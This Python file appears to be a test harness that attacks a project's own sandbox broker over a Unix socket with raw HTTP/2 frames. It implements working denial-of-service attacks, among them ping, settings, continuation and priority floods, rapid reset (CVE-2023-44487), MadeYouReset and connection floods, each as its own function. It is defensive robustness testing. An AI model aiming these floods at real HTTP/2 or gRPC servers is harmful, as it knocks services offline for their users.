"""A hostile client of the broker's socket, in bare frames; each attack is one function.

Runs in a sandbox in the worker's place, where there is nothing but Python's standard library: its
source is handed to `python -I -c`. Run as a program it dials, attacks once, and prints as JSON what
became of it. `tests/unit/test_http2_attacker.py` reads its frames with `h2`'s own parser, so that
an attack that is not one would be noticed.

    python -I -c "$SOURCE" SOCKET TOKEN HELLO_HEX ATTACK SHARE PATIENCE_S

`TOKEN` is the token, or the file it is in.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM = ACK = 0x1
END_HEADERS, PADDED, WITH_PRIORITY = 0x4, 0x8, 0x20

ATTACH = "/rlm_sandbox.v1.SandboxBroker/Attach"
LLM_QUERY = "/rlm_sandbox.v1.SandboxBroker/LlmQuery"
_STALL_S = 20.0


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream_id: int = 0) -> bytes:
    """Returns one frame."""
    return head(kind, len(payload), flags=flags, stream_id=stream_id) + payload


def head(kind: int, length: int, *, flags: int = 0, stream_id: int = 0) -> bytes:
    """Returns a frame's nine bytes, whatever follows them."""
    return length.to_bytes(3, "big") + struct.pack(">BBL", kind, flags, stream_id)


def message(payload: bytes, *, packing: int = 0) -> bytes:
    """Returns a gRPC message."""
    return struct.pack(">BL", packing, len(payload)) + payload


def header_block(path: str, token: str | None, *, content_type: str = "application/grpc") -> bytes:
    """Returns a request's headers, each as a literal that nobody has to remember (RFC 7541, 6.2.2).

    Names and values are shorter than 127 bytes, so that a length is one byte.
    """
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", content_type),
    ]
    if token is not None:
        fields.append(("rlm-session-token", token))
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields
    )


class Line:
    """One connection, which may be closed by the other side at any time."""

    def __init__(self, path: str) -> None:
        """Dials."""
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.sent_bytes = 0
        self.is_closed = False
        self._received = bytearray()

    def send(self, data: bytes) -> bool:
        """Sends all of it, reading and dropping what comes meanwhile; False once it is closed."""
        self.socket.setblocking(False)  # noqa: FBT003 # the method has no other form
        view = memoryview(data)
        deadline_s = time.monotonic() + _STALL_S
        while view and not self.is_closed and time.monotonic() < deadline_s:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 1.0)
            if readable:
                self._drop()
            if writable and not self.is_closed:
                self._send_some(view)
                view = view[self._taken :]
                self.sent_bytes += self._taken
        return not self.is_closed

    def say(self, data: bytes) -> None:
        """Sends a little, and reads nothing meanwhile."""
        self.socket.settimeout(_STALL_S)
        self.socket.sendall(data)
        self.sent_bytes += len(data)

    def send_blindly(self, data: bytes) -> None:
        """Sends what fits without ever reading."""
        self.socket.settimeout(0.2)
        try:
            self.sent_bytes += self.socket.send(data)
        except TimeoutError:
            return
        except OSError:
            self.is_closed = True

    def _send_some(self, view: memoryview) -> None:
        self._taken = 0
        try:
            self._taken = self.socket.send(view)
        except BlockingIOError:
            return
        except OSError:
            self.is_closed = True

    def _drop(self) -> None:
        try:
            self.is_closed = not self.socket.recv(2**16)
        except BlockingIOError:
            return
        except OSError:
            self.is_closed = True

    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        """Yields kind, flags, stream and payload of what the server sends, until it closes."""
        while True:
            while len(self._received) >= 9:
                length = int.from_bytes(self._received[:3], "big")
                if len(self._received) < 9 + length:
                    break
                kind, flags, stream_id = struct.unpack(">BBL", self._received[3:9])
                payload = bytes(self._received[9 : 9 + length])
                del self._received[: 9 + length]
                yield kind, flags, stream_id, payload
            self.socket.settimeout(_STALL_S)
            try:
                data = self.socket.recv(2**16)
            except OSError:
                data = b""
            if not data:
                self.is_closed = True
                return
            self._received += data

    def is_closed_soon(self, *, within_s: float) -> bool:
        """Whether the server closes the connection by itself within that time."""
        deadline_s = time.monotonic() + within_s
        self.socket.setblocking(False)  # noqa: FBT003 # likewise
        while not self.is_closed and (left_s := deadline_s - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left_s)[0]:
                self._drop()
        return self.is_closed


class Attacker:
    """What every attack knows: where to dial, with what, and how much of it."""

    def __init__(self, path: str, token: str, hello: bytes, *, share: float = 1.0) -> None:
        """Takes `share` of each attack's usual amount."""
        self.path = path
        self.token = token
        self.hello = hello
        self.share = share
        self._attached: list[Line] = []  # kept, or the stream would end with its socket

    def count(self, usual: int) -> int:
        """Returns how often to do what is usually done `usual` times."""
        return max(int(usual * self.share), 1)

    def line(self) -> Line:
        """Dials and speaks HTTP/2, as nobody yet."""
        line = Line(self.path)
        line.say(PREFACE + frame(SETTINGS))
        return line

    def attached(self) -> Line:
        """Dials and attaches as an honest worker does; stream 1 is then the sandbox's."""
        line = self.line()
        line.say(self.request(1, ATTACH) + frame(DATA, message(self.hello), stream_id=1))
        for kind, flags, stream_id, payload in line.frames():
            if kind == SETTINGS and not flags & ACK:
                line.say(frame(SETTINGS, flags=ACK))
            elif kind == PING and not flags & ACK:
                line.say(frame(PING, payload, flags=ACK))
            elif kind == DATA and stream_id == 1:
                break
        self._attached.append(line)
        return line

    def request(self, stream_id: int, path: str, **changes: str) -> bytes:
        """Returns the headers that begin a call."""
        block = header_block(path, self.token, **changes)
        return frame(HEADERS, block, flags=END_HEADERS, stream_id=stream_id)


def _flood(line: Line, data: bytes, count: int) -> Line:
    """Sends the same bytes `count` times, many at once."""
    batch = max(2**16 // len(data), 1)
    while count > 0 and line.send(data * min(batch, count)):
        count -= batch
    return line


def ping_flood(attacker: Attacker) -> Line:
    """CVE-2019-9512."""
    return _flood(attacker.attached(), frame(PING, b"attacker"), attacker.count(50_000))


def ping_answer_flood(attacker: Attacker) -> Line:
    """Answers to pings that nobody sent."""
    answer = frame(PING, b"attacker", flags=ACK)
    return _flood(attacker.attached(), answer, attacker.count(50_000))


def settings_flood(attacker: Attacker) -> Line:
    """CVE-2019-9515."""
    return _flood(attacker.attached(), frame(SETTINGS), attacker.count(50_000))


def settings_answer_flood(attacker: Attacker) -> Line:
    """Acknowledgements of settings that nobody sent."""
    return _flood(attacker.attached(), frame(SETTINGS, flags=ACK), attacker.count(50_000))


def window_update_flood(attacker: Attacker) -> Line:
    """Room made a byte at a time (CVE-2019-9511, CVE-2019-9517)."""
    update = frame(WINDOW_UPDATE, struct.pack(">L", 1))
    return _flood(attacker.attached(), update, attacker.count(100_000))


def rapid_reset(attacker: Attacker) -> Line:
    """CVE-2023-44487."""
    line = attacker.attached()
    reset = struct.pack(">L", 8)
    for first in range(3, 3 + 2 * attacker.count(30_000), 200):
        pairs = (
            attacker.request(stream_id, LLM_QUERY) + frame(RST_STREAM, reset, stream_id=stream_id)
            for stream_id in range(first, first + 200, 2)
        )
        if not line.send(b"".join(pairs)):
            break
    return line


def unfinished_streams(attacker: Attacker) -> Line:
    """Calls that never say what they want."""
    line = attacker.attached()
    for first in range(3, 3 + 2 * attacker.count(20_000), 200):
        calls = (attacker.request(number, LLM_QUERY) for number in range(first, first + 200, 2))
        if not line.send(b"".join(calls)):
            break
    return line


def continuation_flood(attacker: Attacker) -> Line:
    """CVE-2024-27316 and its kin: headers without an end."""
    line = attacker.attached()
    line.send(frame(HEADERS, header_block(LLM_QUERY, attacker.token), stream_id=3))
    field = b"\x00\x04fill\x7f\xd1\x45" + b"x" * (127 + 0xD1 - 0x80 + (0x45 << 7))
    return _flood(line, frame(CONTINUATION, field, stream_id=3), attacker.count(20_000))


def empty_continuation_flood(attacker: Attacker) -> Line:
    """Headers without an end, and without a byte."""
    line = attacker.attached()
    line.send(frame(HEADERS, header_block(LLM_QUERY, attacker.token), stream_id=3))
    return _flood(line, frame(CONTINUATION, stream_id=3), attacker.count(50_000))


def long_headers(attacker: Attacker) -> Line:
    """One header block of 16 MiB less a byte."""
    line = attacker.attached()
    line.send(head(HEADERS, 2**24 - 1, flags=END_HEADERS, stream_id=3))
    return _flood(line, b"\x00\x01a\x01b" * 1000, attacker.count(3200))


def message_of_4_gib(attacker: Attacker) -> Line:
    """A message that announces four gibibytes."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(frame(DATA, b"\x00\xff\xff\xff\xff", stream_id=3))
    return line


def message_over_the_cap(attacker: Attacker) -> Line:
    """A message of one byte more than the contract allows, whole."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    data = message(b"x" * (4 * 2**20 + 1))
    for start in range(0, len(data), 16_384):
        piece = data[start : start + 16_384]
        if not line.send(frame(DATA, piece, stream_id=3)):
            break
    return line


def one_byte_data(attacker: Attacker) -> Line:
    """A message in frames of one byte (CVE-2019-9511)."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY) + frame(DATA, message(b"")[:1], stream_id=3))
    line.send(frame(DATA, struct.pack(">L", 4 * 2**20), stream_id=3))
    return _flood(line, frame(DATA, b"x", stream_id=3), attacker.count(600_000))


def empty_data(attacker: Attacker) -> Line:
    """Frames with nothing in them (CVE-2019-9518)."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    return _flood(line, frame(DATA, stream_id=3), attacker.count(600_000))


def empty_messages(attacker: Attacker) -> Line:
    """Messages with nothing in them, thousands in a frame."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    return _flood(line, frame(DATA, message(b"") * 3000, stream_id=3), attacker.count(2_000))


def packed_message(attacker: Attacker) -> Line:
    """A message that says it is compressed."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(frame(DATA, message(b"\x1f\x8b", packing=1), stream_id=3))
    return line


def connection_flood(attacker: Attacker) -> Line:
    """Connections on which nothing is ever said."""
    line = attacker.attached()
    held = []
    for _ in range(attacker.count(900)):
        try:
            held.append(Line(attacker.path))
        except OSError:
            break
    line.is_closed_soon(within_s=1.0)
    line.sent_bytes = len(held)
    return line


def connection_churn(attacker: Attacker) -> Line:
    """Connections that come and go, one at a time."""
    line = attacker.attached()
    for _ in range(attacker.count(900)):
        try:
            Line(attacker.path).socket.close()
        except OSError:
            break
    return line


def half_a_preface(attacker: Attacker) -> Line:
    """A connection that never says what it speaks."""
    attacker.attached()
    line = Line(attacker.path)
    line.send(PREFACE[:10])
    return line


def no_settings(attacker: Attacker) -> Line:
    """A connection that says what it speaks, and nothing more."""
    attacker.attached()
    line = Line(attacker.path)
    line.send(PREFACE)
    return line


def half_a_frame(attacker: Attacker) -> Line:
    """A frame whose last byte never comes."""
    line = attacker.attached()
    line.send(frame(PING, b"attacker")[:-1])
    return line


def half_a_header_block(attacker: Attacker) -> Line:
    """A call whose last headers never come."""
    line = attacker.attached()
    line.send(frame(HEADERS, header_block(LLM_QUERY, attacker.token), stream_id=3))
    return line


def half_a_message(attacker: Attacker) -> Line:
    """A message whose last byte never comes."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(frame(DATA, message(b"x" * 100)[:-1], stream_id=3))
    return line


def huge_frame(attacker: Attacker) -> Line:
    """A frame of 16 MiB less a byte."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(head(DATA, 2**24 - 1, stream_id=3))
    return _flood(line, b"x" * 2**14, attacker.count(1024))


def window_overflow(attacker: Attacker) -> Line:
    """More room than a window has."""
    line = attacker.attached()
    update = frame(WINDOW_UPDATE, struct.pack(">L", 2**31 - 1))
    line.send(update * 2)
    return line


def window_of_nothing(attacker: Attacker) -> Line:
    """Room for no byte more."""
    line = attacker.attached()
    line.send(frame(WINDOW_UPDATE, bytes(4)))
    return line


def held_messages(attacker: Attacker) -> Line:
    """As much as the server makes room for, of messages whose last byte never comes."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY) + frame(DATA, message(b"x" * 10)[:9], stream_id=3))
    for stream_id in range(5, 37, 2):
        line.send(attacker.request(stream_id, LLM_QUERY))
        data = message(bytes(4 * 2**20))[:-1]
        for start in range(0, len(data), 2**16):
            if not line.send(frame(DATA, data[start : start + 2**16], stream_id=stream_id)):
                return line
    return line


def made_you_reset(attacker: Attacker) -> Line:
    """CVE-2025-8671: streams that the server has to reset, because their window overflows."""
    line = attacker.attached()
    update = struct.pack(">L", 2**31 - 1)
    for first in range(3, 3 + 2 * attacker.count(30_000), 200):
        streams = (
            attacker.request(stream_id, LLM_QUERY)
            + frame(WINDOW_UPDATE, update, stream_id=stream_id) * 2
            for stream_id in range(first, first + 200, 2)
        )
        if not line.send(b"".join(streams)):
            break
    return line


def never_reading(attacker: Attacker) -> Line:
    """Asks for answers and never takes one."""
    line = attacker.attached()
    for stream_id in range(3, 3 + 2 * attacker.count(20_000), 2):
        ping = frame(PING, b"attacker") if stream_id % 64 == 3 else b""
        call = attacker.request(stream_id, LLM_QUERY)
        end = frame(
            DATA, message(b"\x0a\x01x\x10\x01\x1a\x01y"), flags=END_STREAM, stream_id=stream_id
        )
        line.send_blindly(call + end + ping)
        if line.is_closed:
            break
    return line


def garbage(attacker: Attacker) -> Line:
    """Bytes that are nothing."""
    line = Line(attacker.path)
    line.send(bytes(range(256)) * 256)
    return line


def garbage_frames(attacker: Attacker) -> Line:
    """Bytes that are nothing, after an honest beginning."""
    line = attacker.attached()
    line.send(bytes(range(256)) * 256)
    return line


def http_1(attacker: Attacker) -> Line:
    """Another protocol."""
    line = Line(attacker.path)
    line.send(b"GET / HTTP/1.1\r\nHost: broker\r\n\r\n")
    return line


def tls(attacker: Attacker) -> Line:
    """Another protocol."""
    line = Line(attacker.path)
    line.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500))
    return line


def priority_flood(attacker: Attacker) -> Line:
    """CVE-2019-9513."""
    change = frame(PRIORITY, struct.pack(">LB", 0, 16), stream_id=1)
    return _flood(attacker.attached(), change, attacker.count(50_000))


def push_promise(attacker: Attacker) -> Line:
    """What only a server may send."""
    line = attacker.attached()
    line.send(frame(PUSH_PROMISE, struct.pack(">L", 2), flags=END_HEADERS, stream_id=1))
    return line


def unknown_frames(attacker: Attacker) -> Line:
    """Frames of a kind that does not exist; HTTP/2 has them ignored."""
    return _flood(attacker.attached(), frame(0xBE, b"x" * 64), attacker.count(50_000))


def goodbye_flood(attacker: Attacker) -> Line:
    """GOAWAY again and again."""
    line = attacker.attached()
    return _flood(line, frame(GOAWAY, bytes(8)), attacker.count(10_000))


def trailers(attacker: Attacker) -> Line:
    """Headers after the message, which no gRPC client sends."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY) + frame(DATA, message(b"x"), stream_id=3))
    line.send(frame(HEADERS, b"\x00\x01a\x01b", flags=END_HEADERS | END_STREAM, stream_id=3))
    return line


def interrupted_headers(attacker: Attacker) -> Line:
    """Another stream's frame in the middle of a header block."""
    line = attacker.attached()
    line.send(frame(HEADERS, header_block(LLM_QUERY, attacker.token), stream_id=3))
    line.send(frame(DATA, message(b"x"), stream_id=1))
    return line


def data_without_headers(attacker: Attacker) -> Line:
    """Data of a stream that was never begun."""
    line = attacker.attached()
    line.send(frame(DATA, message(b"x"), stream_id=77))
    return line


def streams_backwards(attacker: Attacker) -> Line:
    """A new stream whose number is smaller than the last one's."""
    line = attacker.attached()
    line.send(attacker.request(9, LLM_QUERY) + attacker.request(5, LLM_QUERY))
    return line


def padded_data(attacker: Attacker) -> Line:
    """Data with padding."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(frame(DATA, b"\x0a" + message(b"x") + bytes(10), flags=PADDED, stream_id=3))
    return line


def data_after_the_end(attacker: Attacker) -> Line:
    """Data of a stream that its sender has ended."""
    line = attacker.attached()
    line.send(attacker.request(3, LLM_QUERY))
    line.send(frame(DATA, message(b"x"), flags=END_STREAM, stream_id=3))
    line.send(frame(DATA, message(b"x"), stream_id=3))
    return line


def broken_headers(attacker: Attacker) -> Line:
    """Compressed headers that refer to an entry which does not exist."""
    line = attacker.attached()
    line.send(frame(HEADERS, b"\xff\xff\xff\x7f", flags=END_HEADERS, stream_id=3))
    return line


def wrong_path(attacker: Attacker) -> Line:
    """A method that does not exist."""
    line = attacker.attached()
    line.send(attacker.request(3, "/rlm_sandbox.v1.SandboxBroker/Shell"))
    line.send(frame(DATA, message(b""), flags=END_STREAM, stream_id=3))
    return line


def missing_tokens(attacker: Attacker) -> Line:
    """Calls without a token, again and again."""
    line = attacker.attached()
    block = header_block(LLM_QUERY, None)
    for stream_id in range(3, 3 + 2 * attacker.count(100), 2):
        call = frame(HEADERS, block, flags=END_HEADERS, stream_id=stream_id)
        if not line.send(
            call + frame(DATA, message(b"x"), flags=END_STREAM, stream_id=stream_id)
        ) or line.is_closed_soon(within_s=0.02):
            break
    return line


def second_attachments(attacker: Attacker) -> Line:
    """The sandbox's own stream, opened again and again."""
    line = attacker.attached()
    for stream_id in range(3, 3 + 2 * attacker.count(100), 2):
        if not line.send(attacker.request(stream_id, ATTACH)) or line.is_closed_soon(within_s=0.02):
            break
    return line


def wrong_content_type(attacker: Attacker) -> Line:
    """A call that is not gRPC's, again and again."""
    line = attacker.attached()
    for stream_id in range(3, 3 + 2 * attacker.count(1000), 2):
        call = attacker.request(stream_id, LLM_QUERY, content_type="text/html")
        data = frame(DATA, message(b"x"), flags=END_STREAM, stream_id=stream_id)
        if not line.send(call + data):
            break
    return line


ATTACKS: dict[str, Callable[[Attacker], Line]] = {
    name: attack
    for name, attack in list(globals().items())
    if callable(attack)
    and getattr(attack, "__annotations__", {}).get("return") == "Line"
    and not name.startswith("_")
}


def nothing(attacker: Attacker) -> Line:
    """Attaches and harms nobody: what an attack is compared with."""
    return attacker.attached()


def main(arguments: list[str]) -> None:
    """Attacks once and says what became of it."""
    path, token, hello_hex, name, share, patience_s = arguments
    if token.startswith("/"):
        token = Path(token).read_text()
    attacker = Attacker(path, token, bytes.fromhex(hello_hex), share=float(share))
    started_s = time.monotonic()
    line = (ATTACKS | {"nothing": nothing})[name](attacker)
    report = {
        "attack": name,
        "sent_bytes": line.sent_bytes,
        "is_closed": line.is_closed_soon(within_s=float(patience_s)),
        "took_s": round(time.monotonic() - started_s, 3),
    }
    sys.stdout.write(json.dumps(report) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(sys.argv[1:])
